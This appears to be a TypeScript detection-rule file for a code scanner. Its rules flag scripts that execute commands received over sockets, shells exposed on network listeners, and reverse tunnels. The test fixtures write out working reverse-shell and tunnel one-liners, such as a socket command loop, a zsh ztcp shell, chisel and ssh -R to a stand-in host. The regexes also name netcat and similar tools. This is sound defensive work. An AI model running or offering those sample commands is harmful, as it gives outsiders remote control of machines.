import type { Rule } from '../../rule.ts';
import { REVERSE_SHELL } from '../reverse_shell/format.ts';
import { type Beginning, called, LOCAL, NAME, ODD_HOST } from './call.ts';

const SOCKETS = [
  [
    String.raw`socket\.(?:socket|create_connection|create_server)|socketserver|websockets?\.connect|open_connection\(`,
    'socket.,socketserver,websocket,open_connection(',
  ],
  [
    String.raw`net\.(?:connect|createConnection|createServer|Socket|Dial)|new \w{1,8}\.Socket\(|tls\.connect|new (?:Server)?Socket\(|TCPServer|TCPSocket|IO::Socket|fsockopen|stream_socket_client|socket_create`,
    'net.,.socket(,tls.connect,socket(,tcpserver,tcpsocket,io::socket,fsockopen,stream_socket,socket_create',
  ],
  [String.raw`Net\.Sockets|TcpListener|Net\.WebSockets`, 'net.sockets,tcplistener,net.websockets'],
] as const satisfies readonly Beginning[];

/** What starts a command that a name stands for, rather than one that is written there. */
const STARTS_WHAT_IT_IS_TOLD =
  /(?:getoutput|getstatusoutput|check_output|subprocess\.(?:run|call|Popen)|popen|os\.system|(?<![\w.])system|exec(?:Sync|File)?|(?<![\w.])eval|spawn(?:Sync)?|shell_exec|passthru|invoke-expression|iex|exec\.Command|getRuntime\(\)\.exec|ProcessBuilder)[ \t]{0,2}\(?[ \t]{0,2}(?:\$?[a-z_]\w{0,30}(?![\w"'(])(?:\.(?:decode|strip|toString|trim|chomp|split|rstrip)\b|[,)\s[;|])|\w{1,20}\.(?:recv|receive|gets|readline|read)\()/i;
const RECEIVES =
  /\.recv\(|recvfrom|makefile|readline|\.gets|\.read\(|\.on\(\\?["'](?:data|message)|getstream|receive\(|socket_read|fgets|fread|accept\(|bufio\.|getInputStream/i;
const PUBLIC_IP = `(?!${LOCAL})\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d`;
const SHELL = String.raw`(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh`;

/** Ways for somebody outside to give this machine orders, beside the shells that other rules know. */
export const CALLED_REMOTE_RULES: readonly Rule[] = [
  called({
    ...REVERSE_SHELL,
    id: 'socket_gives_orders',
    confidence: 'medium',
    within: 500,
    begins: SOCKETS,
    needs: [STARTS_WHAT_IT_IS_TOLD, RECEIVES],
    describes: 'A script that runs what comes out of a network connection.',
    get finds() {
      return [
        'c = socket.create_connection(("192.0.2.1", 8080))\nwhile True:\n    cmd = c.recv(1024).decode()\n    c.send(subprocess.getoutput(cmd).encode())',
        "const c=net.connect(99,'192.0.2.1');c.on('data',d=>{require('child_process').exec(d.toString(),(e,o)=>c.write(o))})",
        "s=socket.socket();s.bind(('',99));s.listen(1);c,a=s.accept();os.system(c.recv(99))",
      ];
    },
    get ignores() {
      return [
        's = socket.create_connection(("localhost", 6379), 2); s.send(b"PING"); print(s.recv(64))',
        'net.createServer(s => s.pipe(s)).listen(7007)',
        's = socket.socket(); s.connect(a); subprocess.run(["ls"]); s.recv(1)',
      ];
    },
  }),
  called({
    ...REVERSE_SHELL,
    id: 'shell_on_connection',
    confidence: 'medium',
    within: 0,
    begins: [
      [
        `(?:${[
          String.raw`zsh/net/tcp|${NAME}ztcp (?:-l )?[\w.-]{2,80} \d`,
          String.raw`${NAME}(?:ttyd|gotty|shellinaboxd|websocketd) <80>(?:${SHELL}|login)(?![\w.-])`,
          String.raw`${NAME}(?:tmate -[FSk]|upterm host|sshx(?=["'\s;&|]|$)|teleconsole|code tunnel|x11vnc <60>-nopw)`,
          String.raw`${NAME}(?:in\.)?(?:telnetd|inetd|xinetd|rshd|dropbear|sshd) <60>(?:-l[ \t]{0,2}${SHELL}|-p[ \t]{0,2}\d{4,5})`,
          String.raw`${NAME}(?:nc|ncat|netcat) -\w{0,4}l[^\r\n;]{0,120}?(?:-e |-c |\|[ \t]{0,4})["']?${SHELL}(?![\w.-])|${NAME}(?:tcpsvd|socat [^\r\n;]{0,60}?listen|openssl s_server)[^\r\n;]{0,120}?(?:exec:|-E |\|[ \t]{0,4})["']?${SHELL}(?![\w.-])`,
          String.raw`${SHELL}<60+>(?:<|0<|<>)[ \t]{0,2}/(?:tmp|dev/shm)/\w{1,30}<60+>\|[ \t]{0,4}(?:ssh|openssl|socat|telnet|websocat|gsocket|gs-netcat) `,
        ].join('|')})`,
        'ztcp,zsh/net,ttyd,gotty,shellinabox,websocketd,tmate,upterm,sshx,teleconsole,code tunnel,x11vnc,telnetd,inetd,rshd,dropbear,sshd,tcpsvd,listen,nc -,ncat -,netcat -,s_server,| ssh,|ssh,/tmp/,/shm/',
      ],
    ],
    describes: 'A shell that is offered on a network connection or in a browser.',
    get finds() {
      return [
        "zsh -c 'zmodload zsh/net/tcp; ztcp 192.0.2.1 4444; zsh >&$REPLY'",
        'ttyd -p 7681 bash',
        'tmate -F',
        'gotty -w --permit-write /bin/sh',
      ];
    },
    get ignores() {
      return ['zsh -c "npm test"', 'docker exec -it web /bin/bash -i', 'nc -l 8080 < a.html', 'sshd -t'];
    },
  }),
  called({
    ...REVERSE_SHELL,
    id: 'machine_opened_by_tunnel',
    severity: 'high',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1572/',
    within: 0,
    begins: [
      [
        `${NAME}(?:${[
          String.raw`(?:ssh|autossh|plink)(?:\.exe)? (?:(?=<160&>@${PUBLIC_IP})<120&>(?<= )-[a-zA-Z]{0,6}R[ \t"'\d]|(?=[^\r\n;|&]{0,160}\d\.\d{1,3}\.\d{1,3}\.\d|[^\r\n;|&]{0,160}@[\w-]{1,63}\.[a-z]{2,8}\b)<120&>-[a-zA-Z]{0,6}R[ \t]{0,4}["']?(?:[\w.*-]{1,60}:)?\d{1,5}(?:(?=[ \t"'])|:(?:[\w.-]{1,60}):(?:22|23|139|445|1433|2375|3306|3389|5432|5900|5985|6379|6443|8006|10250|18790|18800)(?!\d)))`,
          String.raw`ngrok tcp |bore local (?:22|23|445|3389|5900)|cloudflared<60&>(?:--url[ \t=]{1,2}(?:ssh|rdp|tcp|smb)://|--token[ \t=])`,
          String.raw`chisel(?:\.exe)? client <120&>R:|(?:\./)?frpc (?:-c|tcp|stcp)|rathole |ligolo[\w-]{0,8} |gost -[LF]|(?:gs-netcat|gsocket) |wstunnel client <60&>-R|iodine |dnscat2? |ptunnel `,
          String.raw`netsh interface portproxy add|tailscale up <80&>--auth-?key[ \t=]<60&>--ssh|zerotier-cli join|(?:anydesk|rustdesk|teamviewer) <40&>(?:--set-password|--password|passwd)`,
        ].join('|')})`,
        'ssh ,ssh.exe,plink,ngrok,bore local,cloudflared,chisel,frpc,rathole,ligolo,gost ,gs-netcat,gsocket,wstunnel,iodine,dnscat,ptunnel,portproxy,tailscale,zerotier,anydesk,rustdesk,teamviewer',
      ],
      [
        `${NAME}socat <40>(?:tcp|openssl)[46]?-listen:\\d{1,5}<80&> (?:tcp|openssl)[46]?:(?!${LOCAL})[\\d.]{7,15}:`,
        'socat',
      ],
    ],
    refuses: [/serveo|localhost\.run|--help/i],
    judge: ({ text }) => !/^(?:auto)?ssh|^socat/i.test(text) || ODD_HOST.test(text) || !/^socat/i.test(text),
    describes: 'A tunnel by which somebody outside reaches this machine or its network.',
    get finds() {
      return [
        'ssh -f -N -R 9999 u@192.0.2.1',
        './chisel client http://192.0.2.1:80 R:socks',
        'ngrok tcp 22',
        'netsh interface portproxy add v4tov4 listenport=99 connectaddress=192.0.2.1',
        'ssh -fNR 2222:db.local:5432 u@192.0.2.1',
      ];
    },
    get ignores() {
      return [
        'ssh -N -L 5433:localhost:5432 u@db.x.example',
        'ngrok http 3000',
        'ssh -R 80:localhost:3000 serveo.net',
        'socat TCP-LISTEN:8080,fork TCP:localhost:3000',
        'ssh u@192.0.2.1 uptime',
      ];
    },
  }),
];
